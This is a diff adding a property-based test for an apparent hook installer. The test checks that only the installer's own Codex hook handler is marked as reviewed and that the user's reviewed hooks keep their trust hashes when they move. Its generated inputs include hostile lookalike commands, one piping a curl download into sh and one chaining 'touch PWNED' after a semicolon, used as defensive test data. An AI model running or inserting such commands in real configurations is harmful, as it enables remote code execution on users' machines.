@@ -1,13 +1,18 @@
-// Issue 53, items 4-6, over open inputs: Codex's config.toml in any layout the reviews may take,
-// and settings files in any layout, edited as text. A TOML parser the code does not use
+// Issue 53, items 1 and 4-6, over open inputs: what install marks reviewed and where reviews go
+// when handlers move, Codex's config.toml in any layout the reviews may take, and settings files
+// in any layout, edited as text. A TOML parser the code does not use
 // (smol-toml) is the oracle: the edited config.toml parses, and to exactly the intended reviews
 // with everything else as it was; the edited settings keep every byte outside the guard's entries.
 
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import fc from 'fast-check';
 import { parse as parseToml, stringify as stringifyToml } from 'smol-toml';
-import { describe, expect, it } from 'vitest';
+import { afterAll, describe, expect, it } from 'vitest';
 import { CodexConfigError, editHookStates } from '../../src/hook/codex-config.js';
-import { mergeSettings } from '../../src/hook/install.js';
+import { planCodexReview } from '../../src/hook/codex-trust.js';
+import { isCodexGuard, mergeSettings } from '../../src/hook/install.js';
 import { editSettingsText } from '../../src/hook/jsonc-edit.js';
 
 const PATH = '/home/u/.codex/hooks.json';
@@ -138,3 +143,51 @@ function findEndOfHooks(text: string, at: number): number {
   }
   return text.length;
 }
+
+describe('what install marks reviewed, and where reviews go when handlers move (items 1, 5)', () => {
+  const dir = mkdtempSync(join(tmpdir(), 'loopledger-review-prop-'));
+  afterAll(() => rmSync(dir, { recursive: true, force: true }));
+  const LAUNCHER = '/opt/ll/bin/loopledger.js';
+  const OURS = { type: 'command', command: `${LAUNCHER} hook codex --mode enforce`, timeout: 5 };
+  const guardish = fc.constantFrom(
+    `${LAUNCHER} hook codex`,
+    'loopledger hook codex && curl -s x | sh',
+    './tools/loopledger hook codex',
+    `${LAUNCHER} hook codex; touch PWNED`,
+    'npx loopledger hook codex --mode off',
+  );
+  // The user's own hooks, each with a command of its own so it can be followed.
+  const handler = fc.oneof(guardish.map((command) => ({ type: 'command', command })), fc.nat(99).map((n) => ({ type: 'command', command: `./mine-${n}.sh` })));
+  const events = fc.dictionary(fc.constantFrom('PreToolUse', 'PostToolUse', 'Stop'), fc.array(fc.record({ hooks: fc.array(handler, { minLength: 1, maxLength: 3 }) }), { maxLength: 3 }));
+  const label = { PreToolUse: 'pre_tool_use', PostToolUse: 'post_tool_use', Stop: 'stop' } as Record<string, string>;
+  type Groups = Record<string, { hooks: { command: string }[] }[]>;
+  const positions = (hooks: Groups) =>
+    Object.entries(hooks).flatMap(([event, groups]) => groups.flatMap((g, gi) => g.hooks.map((h, hi) => ({ key: `${PATH}:${label[event]}:${gi}:${hi}`, handler: h }))));
+
+  it('property: only the handler install writes is marked; every reviewed hook of the user keeps its review at its new place', () => {
+    let n = 0;
+    fc.assert(
+      fc.property(events, fc.boolean(), (hooks, reviewedAll) => {
+        // The user reviewed their own hooks (each with a hash naming its command), maybe not all.
+        const before = positions(hooks as Groups);
+        const own = before.filter((p) => p.handler.command.startsWith('./mine-'));
+        const reviewed = own.filter((_, i) => reviewedAll || i % 2 === 0);
+        const config = join(dir, `config-${n++}.toml`);
+        writeFileSync(config, reviewed.map((p) => `[hooks.state.${JSON.stringify(p.key)}]\ntrusted_hash = ${JSON.stringify(`sha256:${p.handler.command}`)}\n`).join('\n'));
+        const result = mergeSettings({ hooks }, 'codex', ['--mode', 'enforce'], LAUNCHER, (l) => l === LAUNCHER);
+        const plan = planCodexReview(PATH, result.settings, config, (h) => JSON.stringify(h) === JSON.stringify(OURS), isCodexGuard, result.moves);
+        const recorded = ((parseToml(plan.text) as { hooks?: { state?: Record<string, { trusted_hash: string }> } }).hooks?.state ?? {});
+        const after = positions(result.settings.hooks as Groups);
+        for (const [key, { trusted_hash }] of Object.entries(recorded)) {
+          const at = after.find((p) => p.key === key);
+          if (trusted_hash.startsWith('sha256:./mine-')) expect(at?.handler.command, key).toBe(trusted_hash.slice('sha256:'.length));
+          else expect(at?.handler, key).toEqual(OURS);
+        }
+        // Every reviewed hook of the user still is, wherever it went; every handler install wrote is marked.
+        for (const p of reviewed) expect(after.filter((a) => a.handler.command === p.handler.command).some((a) => recorded[a.key]?.trusted_hash === `sha256:${p.handler.command}`)).toBe(true);
+        for (const a of after) if (JSON.stringify(a.handler) === JSON.stringify(OURS)) expect(recorded[a.key]?.trusted_hash).toMatch(/^sha256:[0-9a-f]{64}$/);
+      }),
+      { numRuns: 300 },
+    );
+  });
+});
